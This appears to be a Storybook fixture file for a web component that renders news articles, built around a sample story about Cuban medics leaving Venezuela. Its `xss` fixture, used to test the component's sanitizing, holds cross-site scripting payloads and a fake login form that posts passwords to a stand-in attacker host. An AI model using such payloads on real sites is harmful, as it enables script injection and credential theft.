/// <reference types="vite/client" />
/**
 * Fixture data for the stories, built from the seed article (`test/fixtures/cuba-medics.json`).
 *
 * URLs. The seed's image is relative (`assets/cuba-medics-flight.jpg`). Loaded through `src`, it
 * resolves against the JSON file's URL, as docs/ARCHITECTURE.md ("Safety") says, so
 * `src="…/fixtures/cuba-medics.json"` just works. Given as a property or inline JSON it would
 * resolve against the page, which is Storybook's `iframe.html`, not the fixtures folder: so the
 * objects here carry absolute URLs made by `fixtureUrl()`, which points into the `staticDirs` of
 * `.storybook/main.ts` wherever Storybook is served from (dev server, a static build under a
 * sub-path, or Vitest).
 */
import seedJson from '../test/fixtures/cuba-medics.json';
import type { Article, ArticleImage, Author, Faq } from '../src/article/types.js';

/** Absolute URL of a file in `test/fixtures` (served at `fixtures/` next to `iframe.html`). */
export function fixtureUrl(path: string): string {
  return new URL(`${import.meta.env.BASE_URL}fixtures/${path}`, location.href).href;
}

/** A URL on this server that nothing answers: the stories stub `fetch` for it (see helpers.ts). */
export function mockUrl(path: string): string {
  return new URL(`${import.meta.env.BASE_URL}mock-api/${path}`, location.href).href;
}

const clone = <T>(value: T): T => structuredClone(value);

/** The seed as it is in the file (relative image URL): for `src` and for tests of the parser. */
export const seedFile: Article = clone(seedJson) as Article;

const seedImage: ArticleImage = {
  ...seedFile.image!,
  src: fixtureUrl('assets/cuba-medics-flight.jpg'),
};

/** The seed article, with an image URL that works when it is given as a property. */
export const seed: Article = { ...clone(seedFile), image: seedImage };

/** The lead image alone, for `<newsprint-figure>`. */
export const seedImageOnly: ArticleImage = { ...seedImage };

/** The same picture with a `srcset`: the browser picks the 600px or the 1200px file. */
export const responsiveImage: ArticleImage = {
  ...seedImage,
  srcset: `${fixtureUrl('assets/cuba-medics-flight-600.jpg')} 600w, ${fixtureUrl('assets/cuba-medics-flight.jpg')} 1200w`,
  sizes: '(min-width: 48em) 42em, 100vw',
};

/** An image whose file does not exist: the figure shows its "image unavailable" panel. */
export const brokenImage: ArticleImage = {
  ...seedImage,
  src: fixtureUrl('assets/this-photo-was-deleted.jpg'),
};

/** A picture with no caption and no credit. */
export const imageWithoutCaption: ArticleImage = {
  src: seedImage.src,
  alt: seedImage.alt,
  width: seedImage.width,
  height: seedImage.height,
};

/** Four authors, each with an avatar, a role and a profile link. */
export const fourAuthors: Author[] = [
  {
    name: 'Ernesto Alvarez',
    url: 'https://www.cubaheadlines.com/authors/ernesto-alvarez',
    image: fixtureUrl('assets/avatar-1.jpg'),
    role: 'Havana correspondent',
  },
  {
    name: 'María Fernanda Ruiz',
    url: 'https://www.cubaheadlines.com/authors/maria-fernanda-ruiz',
    image: fixtureUrl('assets/avatar-2.jpg'),
    role: 'Caracas',
  },
  {
    name: 'Jorge Luis Peña',
    url: 'https://www.cubaheadlines.com/authors/jorge-luis-pena',
    image: fixtureUrl('assets/avatar-3.jpg'),
    role: 'Data',
  },
  {
    name: 'Ana Beltrán',
    image: fixtureUrl('assets/avatar-4.jpg'),
    role: 'Photo editor',
  },
];

export const seedWithFourAuthors: Article = {
  ...seed,
  authors: fourAuthors,
  dateModified: '2026-01-27T09:30:00Z',
};

/** A headline long enough to wrap over several lines, with a long unbreakable word in it. */
export const longHeadline: Article = {
  ...seed,
  headline:
    'Mission Accomplished? Havana Masks the Return of Thousands of Medical Personnel from Venezuela as a Victory, While Analysts See a Quiet Withdrawal Driven by Politics, Money and the Uncertain Future of the Comprehensive Cooperation Agreement (Convenio-Integral-de-Cooperación-Cuba-Venezuela-2003)',
};

export const noImage: Article = (() => {
  const article = clone(seed);
  delete article.image;
  return article;
})();

/** The least an article can be: a headline. */
export const headlineOnly: Article = { headline: seed.headline };

/** The byline part alone, for a standalone `<newsprint-byline>`. */
export const bylineOnly = {
  authors: seed.authors,
  datePublished: seed.datePublished,
  readingTimeMinutes: 3,
};

/** The FAQ part alone, with ids from the data (what a deep link names). */
export const faqOnly: Faq = {
  title: seed.faq!.title,
  items: seed.faq!.items.map((item, index) => ({
    ...item,
    id: ['why-withdraw', 'economy', 'humanitarian'][index],
  })),
};

/** Translated by hand for the demo (not from the publisher). */
export const spanish: Article = {
  ...seed,
  language: 'es',
  headline:
    '¿Misión cumplida? La Habana disfraza de victoria el regreso del personal médico desde Venezuela',
  description:
    'La Habana presenta el regreso de sus médicos desde Venezuela como una rotación de rutina; la escala y el momento sugieren una retirada silenciosa.',
  section: 'Cuba',
  dateModified: '2026-01-27T10:15:00Z',
  image: {
    ...seedImage,
    alt: 'Colaboradores médicos cubanos bajan la escalerilla de un avión de Cubana de Aviación tras aterrizar',
    caption: 'Vuelo con colaboradores cubanos que regresan de Venezuela',
    credit: 'redes sociales',
  },
  body: [
    '<p>En medio de una ola de retórica triunfalista y consignas patrióticas, las redes sociales de la Brigada Médica Cubana en Venezuela se llenan de imágenes y mensajes de despedida de médicos que regresan a la isla proclamando con orgullo el «deber cumplido».</p>',
    '<p>En numerosos actos celebrados en las Villas Nacionales de Caracas, los funcionarios elogiaron la «entrega y el heroísmo» de las llamadas batas blancas y presentaron su salida como parte de un ciclo de rotación habitual.</p>',
    '<p>Sin embargo, la escala y el momento de la operación sugieren otra realidad: una retirada gradual del personal médico cubano en medio de la agitación política.</p>',
  ].join('\n'),
  faq: {
    title: 'Preguntas clave sobre la retirada del personal médico cubano de Venezuela',
    items: [
      {
        id: 'por-que',
        question: '¿Por qué Cuba retira a su personal médico de Venezuela?',
        answer:
          '<p>La retirada parece responder a la inestabilidad política en Venezuela y a la incertidumbre sobre el Convenio Integral de Cooperación entre ambos países.</p>',
      },
      {
        id: 'economia',
        question: '¿Qué impacto tiene en la economía cubana?',
        answer:
          '<p>Las misiones médicas son una fuente importante de divisas para el Gobierno cubano; el fin de los pagos venezolanos afectaría gravemente a la economía de la isla.</p>',
      },
    ],
  },
  copyright: '© CubaHeadlines 2026',
};

/** Translated by hand for the demo (not from the publisher). */
export const arabic: Article = {
  ...seed,
  language: 'ar',
  headline: 'مهمة منجزة؟ هافانا تُظهر عودة كوادرها الطبية من فنزويلا على أنها انتصار',
  description:
    'تقدّم هافانا عودة أطبائها من فنزويلا على أنها تناوب روتيني، لكن حجم العملية وتوقيتها يوحيان بانسحاب هادئ.',
  section: 'كوبا',
  authors: [
    { name: 'إرنستو ألفاريز', url: 'https://www.cubaheadlines.com/authors/ernesto-alvarez' },
  ],
  image: {
    ...seedImage,
    alt: 'متعاونون طبيون كوبيون ينزلون درج طائرة تابعة لشركة كوبانا للطيران بعد هبوطها',
    caption: 'رحلة تقلّ متعاونين كوبيين عائدين من فنزويلا',
    credit: 'X / @FlconEYES',
  },
  body: [
    '<p>وسط موجة من الخطاب المنتصر والشعارات الوطنية، تمتلئ صفحات اللواء الطبي الكوبي في فنزويلا بصور ورسائل وداع لأطباء عائدين إلى الجزيرة يعلنون بفخر «أداء الواجب».</p>',
    '<p>غير أن حجم العملية وتوقيتها يشيران إلى واقع مختلف: انسحاب تدريجي للكوادر الطبية الكوبية في ظل الاضطراب السياسي.</p>',
  ].join('\n'),
  faq: {
    title: 'أسئلة أساسية حول انسحاب الكوادر الطبية الكوبية من فنزويلا',
    items: [
      {
        id: 'limadha',
        question: 'لماذا تسحب كوبا كوادرها الطبية من فنزويلا؟',
        answer:
          '<p>يبدو أن الانسحاب مرتبط بعدم الاستقرار السياسي في فنزويلا وبالغموض الذي يحيط باتفاقية التعاون بين البلدين.</p>',
      },
      {
        id: 'iqtisad',
        question: 'ما أثر ذلك على الاقتصاد الكوبي؟',
        answer:
          '<p>البعثات الطبية مصدر مهم للعملة الأجنبية للحكومة الكوبية، وتوقف المدفوعات الفنزويلية سيضر باقتصاد الجزيرة.</p>',
      },
    ],
  },
  copyright: '© CubaHeadlines 2026',
};

/** Every trick a hostile feed might try. The element must render it as harmless text and markup. */
export const xss: Article = {
  headline: 'Headline with markup <img src=x onerror="window.__newsprintXss=\'headline\'">',
  description: 'Description <script>window.__newsprintXss = "description"</script> stays text.',
  section: '<b>Section</b>',
  url: 'javascript:window.__newsprintXss="url"',
  authors: [{ name: 'Mallory <svg onload=alert(1)>', url: 'javascript:alert(1)' }],
  publisher: { name: 'Evil Corp', url: 'data:text/html,<script>alert(1)</script>' },
  body: [
    '<p>A paragraph that survives, with <a href="https://example.com/ok">a safe link</a> and <a href="javascript:window.__newsprintXss=\'link\'">a javascript: link</a>.</p>',
    '<script>window.__newsprintXss = "script"</script>',
    '<p><img src="does-not-exist.png" alt="A missing picture whose onerror handler is removed" onerror="window.__newsprintXss=\'onerror\'"></p>',
    '<iframe src="https://example.com" title="frame"></iframe>',
    '<p style="position:fixed;inset:0;background:red">A paragraph whose style attribute is removed.</p>',
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    '<svg><script>window.__newsprintXss="svg"</script></svg>',
    '<p id="headline" class="headline" slot="x" part="base">A paragraph that tries to spoof ids, classes, slots and parts.</p>',
    '<style>:host{display:none!important}</style>',
  ].join('\n'),
  faq: {
    title: 'Questions <i>with</i> markup',
    items: [
      {
        question: 'Is <b>this</b> bold?',
        answer:
          '<p>No: questions are plain text. <img src="x" alt="" onerror="window.__newsprintXss=\'faq\'"></p>',
      },
    ],
  },
};

/** A document that is not an article: no headline. */
export const missingHeadline = { description: 'A story without a headline', section: 'Cuba' };

/** schema.org NewsArticle JSON-LD for the seed, as a publisher's page would embed it. */
export const seedJsonLd = {
  '@context': 'https://schema.org',
  '@type': 'NewsArticle',
  headline: seed.headline,
  description: seed.description,
  url: seed.url,
  articleSection: seed.section,
  inLanguage: 'en',
  datePublished: seed.datePublished,
  author: [{ '@type': 'Person', name: 'Ernesto Alvarez' }],
  publisher: {
    '@type': 'Organization',
    name: 'CubaHeadlines',
    url: 'https://www.cubaheadlines.com/',
  },
  image: {
    '@type': 'ImageObject',
    url: seedImage.src,
    description: seedImage.alt,
    caption: seedImage.caption,
    creditText: 'X / @FlconEYES',
    width: seedImage.width,
    height: seedImage.height,
  },
  // schema.org's articleBody is plain text; paragraphs are separated by blank lines.
  articleBody: (seed.body ?? '')
    .split(/<\/p>\s*/)
    .map((paragraph) => paragraph.replace(/<[^>]+>/g, '').trim())
    .filter(Boolean)
    .join('\n\n'),
  copyrightNotice: seed.copyright,
};

/** schema.org FAQPage JSON-LD for the seed's FAQ. */
export const faqJsonLd = {
  '@context': 'https://schema.org',
  '@type': 'FAQPage',
  name: seed.faq!.title,
  mainEntity: seed.faq!.items.map((item) => ({
    '@type': 'Question',
    name: item.question,
    acceptedAnswer: { '@type': 'Answer', text: item.answer },
  })),
};

const sections = ['Cuba', 'Venezuela', 'Economy', 'World', 'Health', 'Opinion'];
const teaserHeadlines = [
  'Havana masks medical personnel’s return from Venezuela as a victory',
  'Power cuts return to eastern provinces as fuel shipments lag',
  'Remittances fall for a third month, central bank figures show',
  'Caracas interim government signs energy accord with Washington',
  'Hospitals in Holguín ration antibiotics amid supply shortage',
  'Opinion: the medical missions were always about money',
  'Tourist arrivals in Varadero down a quarter on last winter',
  'New rules for private businesses take effect in March',
  'Cuban baseball league postpones playoffs after storm damage',
  'Families queue overnight for passports as emigration climbs',
  'Sugar harvest forecast cut again as mills stand idle',
  'Cayo Coco airport chosen for quiet arrivals, critics say',
];

/** Twelve teasers for a grid: varied headlines, sections and dates; every third without image. */
export const teasers: Article[] = teaserHeadlines.map((headline, index) => ({
  headline,
  url: `https://www.cubaheadlines.com/articles/story-${index + 1}`,
  section: sections[index % sections.length],
  description: index % 4 === 3 ? undefined : seed.description,
  datePublished: `2026-01-${String(26 - index).padStart(2, '0')}`,
  authors: [{ name: fourAuthors[index % 4]!.name }],
  image:
    index % 3 === 2
      ? undefined
      : {
          src: fixtureUrl(
            index % 2 ? 'assets/cuba-medics-flight-600.jpg' : 'assets/cuba-medics-flight.jpg',
          ),
          alt: seedImage.alt,
          width: index % 2 ? 600 : 1200,
          height: index % 2 ? 338 : 675,
        },
}));

/** JSON as text for an inline `<script type="application/json">`. `<` is escaped so data can never close the script. */
export function inlineJson(value: unknown): string {
  return JSON.stringify(value, null, 2).replace(/</g, '\\u003c');
}
